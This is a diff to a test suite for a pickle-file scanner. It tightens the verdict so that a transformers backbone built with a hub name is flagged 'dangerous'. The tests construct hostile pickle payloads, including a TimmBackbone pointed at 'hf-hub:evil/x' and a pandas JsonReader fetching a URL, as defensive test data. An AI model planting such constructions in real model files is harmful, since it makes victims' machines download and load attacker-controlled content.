@@ -75,11 +75,11 @@ describe('pickle policy', () => {
     expect((await scanBytes(reconstruct(py.global('transformers.models.x.modeling_x', 'XModel')))).verdict).toBe('suspicious');
   });
 
-  it('allows pandas and transformers classes only as NEWOBJ, never constructed with arguments', async () => {
+  it('allows pandas and transformers classes only as NEWOBJ, never constructed with arguments (text to one is a load)', async () => {
     const newobj = dumps(py.reduce(py.global('transformers.models.gpt2.modeling_gpt2', 'GPT2Model'), py.tuple(), { newobj: true }), 4);
     expect((await scanBytes(newobj)).verdict).toBe('clean');
     const reduce = dumps(py.reduce(py.global('transformers.models.timm_backbone.modeling_timm_backbone', 'TimmBackbone'), py.tuple('hf-hub:evil/x')), 4);
-    expect((await scanBytes(reduce)).verdict).toBe('suspicious');
+    expect((await scanBytes(reduce)).verdict).toBe('dangerous'); // a hub name handed to a backbone's constructor: it downloads and loads weights
     expect((await scanBytes(dumps(py.reduce(py.global('pandas.api.typing', 'JsonReader'), py.tuple('http://x')), 4))).verdict).toBe('dangerous');
   });
 });
